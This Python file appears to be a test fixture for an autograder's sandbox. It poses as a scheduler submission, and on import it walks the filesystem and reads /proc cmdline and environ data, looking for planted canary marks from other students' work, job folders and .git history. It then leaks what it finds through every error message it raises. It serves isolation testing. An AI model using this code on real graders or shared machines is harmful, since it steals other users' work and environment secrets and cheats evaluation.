"""Hunts for other students' work and the project: stores, batch folders, jobs beside it, .git, and leaks it.
expect: failed

A worker that can read the machine finds a lot: the SQLite store (every student's submissions), the
batch folder with every student's file, the submissions of jobs running at the same time under the
temporary folder, and the project with its `.git` history (which holds the hidden suite), the latter
located through the harness's command line in /proc. This submission looks in all of those places for
canary marks (tests plant them where a careless machine would keep those files), and puts what it
finds into every error message it raises. Its own file, wherever the grader keeps it, does not count.
The hunt looks where such files are kept most often first, and stops within a few seconds of CPU so
that its import ends within the grader's limit on any machine, however much there is to walk.
"""

import os
import time
from collections import deque

MARK = "canary" + "-"
BUDGET_S = 2.5  # of this process's CPU: the grader's import limit is 5 s
FIRST = ("/tmp", "/run", "/var/tmp", "/srv", "/job", "/home", "/work", "/root")
found = []


def _spent():
    return time.process_time() > BUDGET_S


def _look(path):
    if os.path.realpath(path) == os.path.realpath(__file__):
        return
    try:
        with open(path, "rb") as handle:
            data = handle.read(1 << 16)
    except OSError:
        return
    at = data.find(MARK.encode())
    if at >= 0:
        found.append(data[at:at + 80].decode("utf-8", "replace"))


def _walk(tops, depth):
    """Breadth first, so that what lies near the top of every root is read before any deep tree."""
    queue = deque((top, 0) for top in tops)
    while queue and len(found) <= 20 and not _spent():
        top, level = queue.popleft()
        try:
            entries = list(os.scandir(top))
        except (OSError, ValueError):
            continue
        for entry in entries:
            if _spent():
                return
            try:
                if entry.is_symlink():
                    continue
                if entry.is_dir():
                    if level < depth and entry.name not in ("proc", "sys", "dev", "usr", "lib", "site-packages"):
                        queue.append((entry.path, level + 1))
                elif entry.is_file() and entry.name.endswith((".py", ".db", ".db-wal", ".csv", ".json", ".txt", ".pack", ".idx")):
                    _look(entry.path)
            except OSError:
                continue


def _hunt():
    roots = set(FIRST)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("cmdline", "environ"):
                _look(f"/proc/{pid}/{what}")
            try:
                roots.add(os.readlink(f"/proc/{pid}/cwd"))
                command = open(f"/proc/{pid}/cmdline", "rb").read().decode("utf-8", "replace")
                roots.update(part for part in command.replace("\0", " ").replace("'", " ").replace('"', " ").split() if part.startswith("/"))
            except OSError:
                pass
    _walk([*FIRST, *sorted(roots - set(FIRST))], 5)


_hunt()
LEAK = " | ".join(found)[:3000] or "nothing found"


class Req:
    def __init__(self, rid, prompt_len, max_new, prefilled=0, generated=0):
        self.rid, self.prompt_len, self.max_new = rid, prompt_len, max_new
        self.prefilled, self.generated = prefilled, generated


class Scheduler:
    def __init__(self, token_budget, max_seqs, kv_tokens):
        self.waiting, self.running, self.reserved = deque(), [], 0

    def add(self, req):
        raise ValueError(LEAK)

    def schedule(self):
        raise RuntimeError(LEAK)

    def complete(self, plan):
        raise RuntimeError(LEAK)
